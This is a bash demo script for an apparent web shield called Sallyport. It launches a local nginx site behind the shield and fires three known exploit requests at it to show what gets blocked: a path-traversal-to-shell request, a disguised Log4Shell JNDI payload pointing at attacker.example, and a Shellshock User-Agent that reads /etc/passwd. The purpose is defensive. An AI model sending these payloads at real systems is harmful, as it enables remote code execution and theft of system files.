#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# demo: a small site (nginx), Sallyport in front of it, one ordinary request and three exploits; then it stays up until ^C.
# Usage: tools/demo.sh [SALLYPORT]     PORT: where to listen, default 8080
set -u
cd "$(dirname "$0")/.." || exit 1
sallyport=${1:-build/src/proc/sallyport}
port=${PORT:-8080}
dir='' nginx='' shield='' watch=''

fail() {
    printf 'demo: %s\n' "$*" >&2
    exit 1
}

cleanup() {
    trap - EXIT INT TERM
    for pid in $watch $shield $nginx; do kill "$pid" 2>/dev/null; done
    for pid in $watch $shield $nginx; do wait "$pid" 2>/dev/null; done
    [ -n "$dir" ] && rm -rf "$dir"
}
trap cleanup EXIT
trap 'exit 0' INT TERM

taken() { (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null; }

wait_for() { # what, its process, its port, its log
    for _ in $(seq 100); do
        kill -0 "$2" 2>/dev/null || fail "$1 did not start: $(tail -n 1 "$4")"
        taken "$3" && return
        sleep 0.05
    done
    fail "$1 did not start: $(tail -n 1 "$4")"
}

# ---- the site and its shield ----

start_site() {
    origin=$((20000 + RANDOM % 20000))
    while taken "$origin"; do origin=$((origin + 1)); done
    mkdir "$dir/site"
    printf '<h1>A small shop</h1>\n<p>Everything is in stock.</p>\n' >"$dir/site/index.html"
    cat >"$dir/nginx.conf" <<END
daemon off;
worker_processes 1;
pid $dir/nginx.pid;
error_log $dir/nginx.log;
events {}
http {
    access_log off;
    client_body_temp_path $dir/body; proxy_temp_path $dir/proxy; fastcgi_temp_path $dir/fastcgi;
    uwsgi_temp_path $dir/uwsgi; scgi_temp_path $dir/scgi;
    server {
        listen 127.0.0.1:$origin;
        root $dir/site;
        location /cgi-bin/status { return 200 "the server saw this user agent: \$http_user_agent\n"; }
    }
}
END
    nginx -c "$dir/nginx.conf" -e "$dir/nginx.log" >>"$dir/nginx.log" 2>&1 &
    nginx=$!
    wait_for nginx "$nginx" "$origin" "$dir/nginx.log"
}

start_shield() {
    "$sallyport" protect --listen ":$port" --to "127.0.0.1:$origin" --rules patches --events "$dir/events" 2>"$dir/shield.log" &
    shield=$!
    wait_for sallyport "$shield" "$port" "$dir/shield.log"
}

# ---- what is shown ----

member() { # name: the first member of that name in the newest event
    tail -n 1 "$dir/events" | sed -nE "s/.*\"$1\":\"(([^\"\\\\]|\\\\.)*)\".*/\\1/p" | sed 's/\\\(["\\]\)/\1/g'
}

show() { [ -n "$2" ] && printf '     %-11s %s\n' "$1" "$2"; }

send() { # title, then curl's arguments
    local before after answer
    printf '\n%s\n' "$1"
    shift
    before=$(wc -l <"$dir/events")
    answer=$(curl -s -o "$dir/answer" -w '%{http_code}' --path-as-is "$@")
    for _ in $(seq 20); do
        after=$(wc -l <"$dir/events")
        [ "$after" -gt "$before" ] && break
        sleep 0.02
    done
    if [ "$after" -gt "$before" ]; then
        show field "$(member field)"
        show before "$(member before)"
        show after "$(member after)"
        show rule "$(member rule): $(member signature)"
        show verdict "$(member verdict)"
    else
        show verdict 'pass: no rule fired'
    fi
    show 'client saw' "$answer, $(tail -n 1 "$dir/answer" | tr -d '\r' | cut -c 1-80)"
}

watch_events() {
    tail -n 0 -F "$dir/events" 2>/dev/null |
        sed -unE 's/.*"src_ip":"([^"]*)".*"rule":"([^"]*)","verdict":"([^"]*)".*/  \1  \3  \2/p;
                  s/.*"src_ip":"([^"]*)".*"event":"([^"]*)".*"verdict":"([^"]*)".*/  \1  \3  malformed: \2/p' &
    watch=$!
}

[ -x "$sallyport" ] || fail "$sallyport is not there: run make first"
for tool in nginx curl; do command -v "$tool" >/dev/null || PATH=$PATH:/usr/sbin command -v "$tool" >/dev/null || fail "$tool is not installed"; done
PATH=$PATH:/usr/sbin
taken "$port" && fail "port $port is in use; stop what listens there, or choose another: PORT=8081 make run"

dir=$(mktemp -d) && chmod 755 "$dir" && : >"$dir/events"
start_site
start_shield
printf 'A small site (nginx on 127.0.0.1:%s) behind Sallyport on port %s.\n' "$origin" "$port"
sed -nE 's/.* ([0-9]+ rules? from .*)/\1/p' "$dir/shield.log" | head -n 1

site=http://127.0.0.1:$port
send '1. An ordinary request: GET /' "$site/"
send '2. Path traversal to a shell, as Apache 2.4.49 let it through: GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh' "$site/cgi-bin/.%2e/.%2e/.%2e/bin/sh"
send '3. Log4Shell, disguised by nested lookups, in X-Api-Version' -H 'X-Api-Version: ${${lower:j}n${env:none:-d}i:ldap://attacker.example/x}' "$site/"
send '4. Shellshock in User-Agent: corrected, so the request goes on' -A '() { :;}; /bin/cat /etc/passwd' "$site/cgi-bin/status"

printf '\n%s is up, try your own. Verdicts appear here; ^C ends everything.\n' "$site/"
watch_events
wait "$shield"
fail "sallyport ended: $(tail -n 1 "$dir/shield.log")"
